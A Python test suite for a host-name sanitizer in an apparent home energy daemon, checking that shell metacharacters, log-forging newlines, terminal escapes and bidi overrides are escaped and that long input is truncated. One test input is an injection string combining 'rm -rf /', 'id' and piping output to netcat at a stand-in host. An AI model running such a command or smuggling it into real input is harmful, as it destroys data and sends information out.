"""Host names chosen by strangers come out as harmless, readable, bounded text."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from energyhubd.inventory.sanitize import ELLIPSIS, MAX_DISPLAY_LEN, optional_field, safe_text

SHELL_META = set("$`;|&<>()'\"*?[]{}!#~ \t\n\r\\=%^,/")


@given(st.one_of(st.binary(max_size=400), st.text(max_size=400)))
def test_output_is_bounded_printable_ascii_or_letters(value: bytes | str) -> None:
    out = safe_text(value)
    assert len(out) <= MAX_DISPLAY_LEN
    for ch in out:
        assert ch.isprintable() and ch not in "\n\r\x1b\u202e"
        if ch in SHELL_META:
            assert ch == "\\"  # only as the start of an escape
    # Every backslash starts a complete escape (never cut in half).
    i = 0
    while i < len(out):
        if out[i] == "\\":
            rest = out[i + 1 :]
            assert rest[:1] in ("\\", "x", "u", "U")
            width = {"\\": 1, "x": 3, "u": 5, "U": 9}[rest[0]]
            assert len(rest) >= width
            i += width + 1
        else:
            i += 1


def test_shell_metacharacters_are_escaped() -> None:
    out = safe_text("$(rm -rf /);`id` | nc evil 1 > x & echo 'a' \"b\"")
    assert not (set(out) & (SHELL_META - {"\\"}))
    assert out.startswith("\\x24\\x28rm\\x20-rf\\x20\\x2f\\x29\\x3b\\x60id")


def test_newlines_and_terminal_escapes_cannot_forge_log_lines() -> None:
    out = safe_text("unit1\nMar 1 energyhubd: joined\r\x1b[2J")
    assert "\n" not in out and "\r" not in out and "\x1b" not in out
    assert "\\x0a" in out and "\\x1b" in out


def test_invalid_utf8_and_nul_show_the_bytes() -> None:
    assert safe_text(b"ab\xff\x00cd") == "ab\\xff\\x00cd"
    assert safe_text("K\u00f6ket".encode()) == "K\u00f6ket"  # honest non-ASCII names stay readable


def test_bidi_override_is_escaped() -> None:
    assert safe_text("evil\u202etxt.exe") == "evil\\u202etxt.exe"


def test_ten_kilobytes_are_cut_with_a_marker() -> None:
    out = safe_text(b"A" * 10_000)
    assert len(out) == MAX_DISPLAY_LEN and out.endswith(ELLIPSIS)
    out = safe_text("$" * 10_000)
    assert out.endswith(ELLIPSIS) and len(out) <= MAX_DISPLAY_LEN
    assert out[: -len(ELLIPSIS)] == "\\x24" * ((MAX_DISPLAY_LEN - len(ELLIPSIS)) // 4)


def test_exact_fit_is_not_cut() -> None:
    assert safe_text("a" * MAX_DISPLAY_LEN) == "a" * MAX_DISPLAY_LEN
    assert safe_text("a" * (MAX_DISPLAY_LEN + 1)).endswith(ELLIPSIS)


def test_dnsmasq_star_means_none() -> None:
    assert optional_field(b"*") is None and optional_field("") is None
    assert optional_field(b"energyhub-1") == "energyhub-1"
